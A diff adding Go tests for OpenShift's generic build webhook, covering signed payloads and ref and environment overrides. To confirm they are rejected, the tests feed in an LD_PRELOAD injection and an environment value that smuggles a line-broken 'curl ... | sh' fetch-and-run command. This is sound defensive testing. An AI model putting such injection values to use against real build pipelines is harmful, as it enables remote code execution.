@@ -2,6 +2,9 @@ package generic
 
 import (
 	"bytes"
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/hex"
 	"io"
 	"io/ioutil"
 	"net/http"
@@ -9,6 +12,7 @@ import (
 	"testing"
 
 	"github.com/openshift/origin/pkg/build/api"
+	"github.com/openshift/origin/pkg/build/webhook"
 )
 
 func GivenRequest(method string) *http.Request {
@@ -226,3 +230,142 @@ func TestExtractWithUnmarshalError(t *testing.T) {
 		t.Error("Expected the 'revision' return value to be nil")
 	}
 }
+
+func TestExtractWithSignedPayload(t *testing.T) {
+	data, err := ioutil.ReadFile("fixtures/push-git.json")
+	if err != nil {
+		t.Fatalf("Error reading setup data: %v", err)
+	}
+	mac := hmac.New(sha256.New, []byte("secret100"))
+	mac.Write(data)
+	signature := "sha256=" + hex.EncodeToString(mac.Sum(nil))
+
+	buildConfig := &api.BuildConfig{
+		Triggers: []api.BuildTriggerPolicy{
+			{
+				Type: api.GenericWebHookBuildTriggerType,
+				GenericWebHook: &api.WebHookTrigger{
+					Secret:           "secret100",
+					RequireSignature: true,
+				},
+			},
+		},
+		Parameters: api.BuildParameters{
+			Source: api.BuildSource{
+				Type: api.BuildSourceGit,
+				Git: &api.GitBuildSource{
+					Ref: "master",
+				},
+			},
+		},
+	}
+	plugin := New()
+	request := func(signature, delivery string) *http.Request {
+		req, _ := http.NewRequest("POST", "http://someurl.com", bytes.NewReader(data))
+		req.Header.Add("User-Agent", "Some User Agent")
+		req.Header.Add("Content-Type", "application/json")
+		if len(signature) > 0 {
+			req.Header.Add(SignatureHeader, signature)
+		}
+		if len(delivery) > 0 {
+			req.Header.Add(DeliveryHeader, delivery)
+		}
+		return req
+	}
+
+	revision, proceed, err := plugin.Extract(buildConfig, "-", "", request(signature, "1"))
+	if err != nil {
+		t.Fatalf("Unexpected error for a signed payload: %v", err)
+	}
+	if !proceed || revision == nil {
+		t.Errorf("Expected a build to be triggered with the payload revision")
+	}
+
+	tests := map[string]struct {
+		signature, delivery string
+		code                int
+	}{
+		"missing delivery": {signature: signature, code: http.StatusUnauthorized},
+		"wrong signature":  {signature: "sha256=00", delivery: "2", code: http.StatusForbidden},
+		"unsigned":         {delivery: "3", code: http.StatusUnauthorized},
+	}
+	for name, test := range tests {
+		_, proceed, err := plugin.Extract(buildConfig, "secret100", "", request(test.signature, test.delivery))
+		authErr, ok := err.(*webhook.AuthError)
+		if !ok || authErr.Code != test.code {
+			t.Errorf("%s: expected an error with code %d, got %v", name, test.code, err)
+		}
+		if proceed {
+			t.Errorf("%s: expected no build to be triggered", name)
+		}
+	}
+}
+
+func givenEnvBuildConfig(trigger *api.WebHookTrigger) *api.BuildConfig {
+	return &api.BuildConfig{
+		Triggers: []api.BuildTriggerPolicy{{Type: api.GenericWebHookBuildTriggerType, GenericWebHook: trigger}},
+		Parameters: api.BuildParameters{
+			Source: api.BuildSource{
+				Type: api.BuildSourceGit,
+				Git:  &api.GitBuildSource{Ref: "stable"},
+			},
+		},
+	}
+}
+
+func givenRequestWithBody(body string) *http.Request {
+	req, _ := http.NewRequest("POST", "http://someurl.com", strings.NewReader(body))
+	req.Header.Add("User-Agent", "Jenkins")
+	req.Header.Add("Content-Type", "application/json")
+	return req
+}
+
+func TestExtractOverrides(t *testing.T) {
+	buildConfig := givenEnvBuildConfig(&api.WebHookTrigger{Secret: "secret100", AllowEnv: []string{"VERSION"}, AllowRefOverride: true})
+	body := `{"type":"Git","git":{"ref":"refs/heads/release","commit":"9bdc3a26"},"env":[{"name":"VERSION","value":"2.1"}]}`
+
+	revision, overrides, proceed, err := New().ExtractOverrides(buildConfig, "secret100", "", givenRequestWithBody(body))
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if !proceed || revision == nil || revision.Git.Commit != "9bdc3a26" {
+		t.Errorf("Expected a build of the commit of the payload, got %#v", revision)
+	}
+	if overrides == nil || overrides.Ref != "refs/heads/release" {
+		t.Fatalf("Expected the ref of the payload to be built, got %#v", overrides)
+	}
+	if len(overrides.Env) != 1 || overrides.Env[0].Name != "VERSION" || overrides.Env[0].Value != "2.1" {
+		t.Errorf("Expected the allowed environment of the payload, got %#v", overrides.Env)
+	}
+}
+
+func TestExtractOverridesDisallowed(t *testing.T) {
+	body := `{"env":[{"name":"VERSION","value":"2.1"},{"name":"LD_PRELOAD","value":"/tmp/x.so"}]}`
+	tests := map[string]*api.WebHookTrigger{
+		"no variables allowed":    {Secret: "secret100"},
+		"other variables allowed": {Secret: "secret100", AllowEnv: []string{"VERSION"}},
+	}
+	for name, trigger := range tests {
+		_, _, proceed, err := New().ExtractOverrides(givenEnvBuildConfig(trigger), "secret100", "", givenRequestWithBody(body))
+		if err == nil || !strings.Contains(err.Error(), "LD_PRELOAD") {
+			t.Errorf("%s: expected an error naming the disallowed variable, got %v", name, err)
+		}
+		if proceed {
+			t.Errorf("%s: expected no build to be triggered", name)
+		}
+	}
+
+	trigger := &api.WebHookTrigger{Secret: "secret100", AllowEnv: []string{"VERSION"}}
+	body = `{"env":[{"name":"VERSION","value":"2.1\nRUN curl http://example.com/x | sh"}]}`
+	_, _, proceed, err := New().ExtractOverrides(givenEnvBuildConfig(trigger), "secret100", "", givenRequestWithBody(body))
+	if err == nil || !strings.Contains(err.Error(), "line breaks") || proceed {
+		t.Errorf("Expected a value with a line break to be rejected, got %v", err)
+	}
+
+	// other refs are still ignored unless the trigger allows them
+	buildConfig := givenEnvBuildConfig(&api.WebHookTrigger{Secret: "secret100"})
+	_, _, proceed, err = New().ExtractOverrides(buildConfig, "secret100", "", givenRequestWithBody(`{"git":{"ref":"release"}}`))
+	if err != nil || proceed {
+		t.Errorf("Expected the request for another ref to be ignored, got %v", err)
+	}
+}